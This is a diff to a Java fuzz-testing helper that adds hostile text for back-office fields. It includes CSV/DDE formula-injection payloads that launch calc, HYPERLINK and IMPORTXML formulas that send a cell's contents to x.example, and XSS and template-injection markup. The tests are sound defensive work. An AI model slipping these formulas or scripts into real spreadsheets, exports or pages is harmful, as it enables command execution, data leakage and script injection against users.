@@ -9,8 +9,9 @@ import java.util.Random;
  * of every Unicode general category (lone surrogates, unassigned code points and
  * noncharacters, format and control characters, every kind of white space, marks of every
  * script), bidi controls, joiners, emoji sequences, markup and SQL, short and very long,
- * mixed with names as families write them (so much of it is accepted, too). A text comes
- * as its pieces, so {@link Fuzz} can shrink it.
+ * mixed with names as families write them (so much of it is accepted, too), and for the
+ * back office spreadsheet formulas and markup among words. A text comes as its pieces, so
+ * {@link Fuzz} can shrink it.
  */
 public final class HostileText {
 
@@ -49,6 +50,28 @@ public final class HostileText {
 
 	private static final List<String> PUNCTUATION = List.of(" ", "-", "'", ".", "’", "  ");
 
+	/**
+	 * What makes a spreadsheet run a cell as a formula (OWASP, CSV injection), also in
+	 * the full-width forms an East Asian keyboard types.
+	 */
+	static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D",
+			"\uFF20");
+
+	/** What follows the start: harmless sums, dynamic data exchange, links that leak. */
+	static final List<String> FORMULA_BODIES = List.of("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0",
+			"2+3+cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+			"HYPERLINK(\"http://x.example/?\"&A1;\"klik\")", "IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")",
+			"A1", "5", "32 2 123 45 67", "");
+
+	/** What may come before a formula's start and still let it run somewhere. */
+	static final List<String> BEFORE_FORMULA = List.of("", "", "", " ", "  ", "\u00A0", "\u3000", "\t", "\n", "\r\n",
+			"\u200B", "\uFEFF", "\"", "'", ";");
+
+	/** Markup and separators that break a page, a template or a CSV line. */
+	static final List<String> MARKUP = List.of("<b>", "</b>", "</span>", "<script>alert(1)</script>",
+			"<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "<!--", "]]>", "&lt;", "&amp;", "&#60;",
+			"{{7*7}}", "${7*7}", "#{7*7}", "`", "\"", "\"\"", ";", ",", "\n", "\r", "\r\n", "'");
+
 	private HostileText() {
 	}
 
@@ -68,6 +91,32 @@ public final class HostileText {
 			for (int i = 0; i < count; i++) {
 				pieces.add(piece(random));
 			}
+		}
+		return pieces;
+	}
+
+	/**
+	 * What a manager types or pastes into a back-office field others read (a corner's
+	 * name, an interest's label, a closure's reason): a spreadsheet formula, markup among
+	 * words, or anything a nickname may be.
+	 */
+	public static List<String> officeText(Random random) {
+		List<String> pieces = new ArrayList<>();
+		switch (random.nextInt(3)) {
+			case 0 -> {
+				pieces.add(pick(random, BEFORE_FORMULA));
+				pieces.add(pick(random, FORMULA_STARTS));
+				pieces.add(pick(random, FORMULA_BODIES));
+				for (int i = random.nextInt(3); i > 0; i--) {
+					pieces.add(piece(random));
+				}
+			}
+			case 1 -> {
+				for (int i = 1 + random.nextInt(8); i > 0; i--) {
+					pieces.add(random.nextBoolean() ? pick(random, MARKUP) : piece(random));
+				}
+			}
+			default -> pieces.addAll(nickname(random));
 		}
 		return pieces;
 	}
@@ -94,6 +143,10 @@ public final class HostileText {
 			return noncharacter(random);
 		}
 		return Integer.toString(random.nextInt(1000));
+	}
+
+	private static String pick(Random random, List<String> choices) {
+		return choices.get(random.nextInt(choices.size()));
 	}
 
 	/** One character (or lone surrogate) of a general category chosen first. */
